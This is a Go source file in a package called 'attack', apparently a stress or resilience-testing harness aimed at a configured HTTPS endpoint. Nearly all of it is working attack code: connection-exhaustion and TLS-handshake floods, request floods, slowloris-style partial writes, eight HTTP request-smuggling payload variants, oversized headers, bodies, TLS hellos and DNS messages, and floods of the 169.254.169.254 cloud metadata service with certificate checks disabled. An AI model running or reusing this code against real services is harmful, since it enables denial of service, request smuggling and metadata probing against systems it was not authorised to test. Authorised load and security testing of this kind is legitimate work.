// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"time"
)

const wait = 2 * time.Second // for whatever an attacker's connection does

func dial(to netip.Addr, port uint16) (*net.TCPConn, error) {
	c, err := net.DialTimeout("tcp", netip.AddrPortFrom(to, port).String(), wait)
	if err != nil {
		return nil, err
	}
	return c.(*net.TCPConn), nil
}

// drop closes with a reset, so that no port of the attacker's is kept busy.
func drop(c net.Conn) {
	if t, ok := c.(*tls.Conn); ok {
		c = t.NetConn()
	}
	_ = c.(*net.TCPConn).SetLinger(0)
	c.Close()
}

// secure dials the endpoint and shakes hands; whose certificate it is, is not asked.
func (a *attacker) secure() (*tls.Conn, error) {
	raw, err := dial(a.Endpoint, 443)
	if err != nil {
		return nil, err
	}
	c := tls.Client(raw, &tls.Config{ServerName: a.Name, InsecureSkipVerify: true})
	_ = c.SetDeadline(time.Now().Add(wait))
	if err := c.Handshake(); err != nil {
		drop(c)
		return nil, err
	}
	_ = c.SetDeadline(a.until.Add(wait))
	return c, nil
}

// connections opens as many as it can, and keeps them to the end.
func connections(a *attacker) error {
	const most = 15000 // of the files that a process may have
	var mu sync.Mutex
	var open []*net.TCPConn
	defer func() {
		for _, c := range open {
			drop(c)
		}
	}()
	a.begun()
	a.crowd(64, func() bool {
		n := a.sent.Load()
		to, port := a.Endpoint, uint16(443)
		if n%4 != 0 {
			to, port = a.Peer, a.Ports[n%int64(len(a.Ports))]
		}
		c, err := dial(to, port)
		a.count(err)
		if err != nil {
			return true
		}
		mu.Lock()
		defer mu.Unlock()
		open = append(open, c)
		return len(open) < most
	})
	time.Sleep(time.Until(a.until))
	return nil
}

// handshakes shakes hands with the endpoint and goes away again.
func handshakes(a *attacker) error {
	a.begun()
	a.crowd(256, func() bool {
		c, err := a.secure()
		a.count(err)
		if err == nil {
			drop(c)
		}
		return true
	})
	return nil
}

// requests asks the endpoint over many connections at once.
func requests(a *attacker) error {
	request := "POST / HTTP/1.1\r\nHost: " + a.Name + "\r\nContent-Type: application/x-amz-json-1.1\r\nX-Amz-Target: Kinesis_20131202.ListStreams\r\nContent-Length: 2\r\n\r\n{}"
	a.askAll(256, func() (net.Conn, error) { return a.secure() }, request)
	return nil
}

// metadata asks what there is to know of the attacker.
func metadata(a *attacker) error {
	to := netip.AddrFrom4([4]byte{169, 254, 169, 254})
	a.askAll(256, func() (net.Conn, error) { return dial(to, 80) }, "GET /latest/meta-data/ HTTP/1.1\r\nHost: "+to.String()+"\r\n\r\n")
	return nil
}

// askAll sends one request after the other over each of n connections.
func (a *attacker) askAll(n int, open func() (net.Conn, error), request string) {
	a.begun()
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for a.more() {
				c, err := open()
				if err != nil {
					a.count(err)
					continue
				}
				a.askOn(c, request)
				drop(c)
			}
		})
	}
	all.Wait()
}

func (a *attacker) askOn(c net.Conn, request string) {
	r := bufio.NewReader(c)
	for a.more() {
		_ = c.SetDeadline(time.Now().Add(wait))
		_, err := io.WriteString(c, request)
		if err == nil {
			err = discard(r)
		}
		a.count(err)
		if err != nil {
			return
		}
	}
}

// discard reads one answer.
func discard(r *bufio.Reader) error {
	resp, err := http.ReadResponse(r, nil)
	if err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, resp.Body)
	return err
}

// slow has many connections that are never quite there: without a word, with half a
// TLS hello, half a head, half a body, a byte now and then.
func slow(a *attacker) error {
	const many = 1000
	hello := append([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3}, make([]byte, 400)...)
	var open []net.Conn
	defer func() {
		for _, c := range open {
			drop(c)
		}
	}()
	next := make([][]byte, 0, many)
	for n := 0; n < many && a.more(); n++ {
		var c net.Conn
		var err error
		var rest []byte
		if n%4 < 2 {
			c, err = dial(a.Endpoint, 443)
			rest = hello[:400*(n%4)]
		} else {
			c, err = a.secure()
			rest = []byte("POST / HTTP/1.1\r\nHost: " + a.Name + "\r\nX: " + strings.Repeat("x", 1000))
			if n%4 == 3 {
				rest = []byte("POST / HTTP/1.1\r\nHost: " + a.Name + "\r\nContent-Length: 100000\r\n\r\n" + strings.Repeat("x", 1000))
			}
		}
		a.count(err)
		if err != nil {
			continue
		}
		if n%4 == 3 { // the head at once
			at := strings.Index(string(rest), "\r\n\r\n") + 4
			_, _ = c.Write(rest[:at])
			rest = rest[at:]
		}
		open, next = append(open, c), append(next, rest)
	}
	a.begun()
	for ; time.Now().Before(a.until); time.Sleep(100 * time.Millisecond) {
		for i, c := range open {
			if len(next[i]) > 0 {
				_, _ = c.Write(next[i][:1])
				next[i] = next[i][1:]
			}
		}
	}
	return nil
}

// smuggled sends requests whose end is a matter of opinion, with another inside.
func smuggled(a *attacker) error {
	inner := "GET /smuggled HTTP/1.1\r\nHost: " + a.Name + "\r\n\r\n"
	head := "POST / HTTP/1.1\r\nHost: " + a.Name + "\r\n"
	long := fmt.Sprint(5 + len(inner))
	bodies := []string{
		head + "Content-Length: " + long + "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
		head + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n" + inner,
		head + "Transfer-Encoding: xchunked\r\nContent-Length: " + long + "\r\n\r\n0\r\n\r\n" + inner,
		head + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + inner,
		head + "Content-Length: 0\r\nContent-Length: " + long + "\r\n\r\n" + inner,
		head + "Content-Length: +5\r\n\r\n12345" + inner,
		head + "X: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
		head + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n" + inner,
	}
	a.begun()
	a.crowd(16, func() bool {
		a.count(a.sendOne(bodies[a.sent.Load()%int64(len(bodies))]))
		return true
	})
	return nil
}

// sendOne sends text over a new connection and reads to the end of what comes back.
func (a *attacker) sendOne(text string) error {
	c, err := a.secure()
	if err != nil {
		return err
	}
	defer drop(c)
	_ = c.SetDeadline(time.Now().Add(wait))
	if _, err := io.WriteString(c, text); err != nil {
		return err
	}
	return discard(bufio.NewReader(c))
}

// oversized sends heads, targets, bodies, TLS hellos and DNS messages beyond what
// anybody takes.
func oversized(a *attacker) error {
	head := "POST / HTTP/1.1\r\nHost: " + a.Name + "\r\n"
	texts := []string{
		head + "X: " + strings.Repeat("x", 1<<20) + "\r\n\r\n",
		head + strings.Repeat("X: y\r\n", 1<<16) + "\r\n",
		"GET /" + strings.Repeat("x", 1<<18) + " HTTP/1.1\r\nHost: " + a.Name + "\r\n\r\n",
		head + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 8388608\r\n\r\n" + strings.Repeat("x", 8<<20),
	}
	hello := append([]byte{22, 3, 1, 0x40, 0, 1, 0xff, 0xff, 0xff, 3, 3}, make([]byte, 16384-6)...)
	query := append([]byte{0xff, 0xff}, make([]byte, 65535)...)
	a.begun()
	a.crowd(16, func() bool {
		n := int(a.sent.Load()) % (len(texts) + 3)
		switch n - len(texts) {
		case 0:
			a.count(sendRaw(a.Endpoint, 443, hello, 8))
		case 1:
			a.count(sendRaw(a.Resolver, 53, query, 1))
		case 2:
			a.count(sendBig(a.Resolver))
		default:
			a.count(a.sendOne(texts[n]))
		}
		return true
	})
	return nil
}

// sendRaw sends b so many times over a new connection, and waits for its end.
func sendRaw(to netip.Addr, port uint16, b []byte, times int) error {
	c, err := dial(to, port)
	if err != nil {
		return err
	}
	defer drop(c)
	_ = c.SetDeadline(time.Now().Add(wait))
	for range times {
		if _, err := c.Write(b); err != nil {
			return err
		}
	}
	_, err = c.Read(make([]byte, 1))
	return err
}
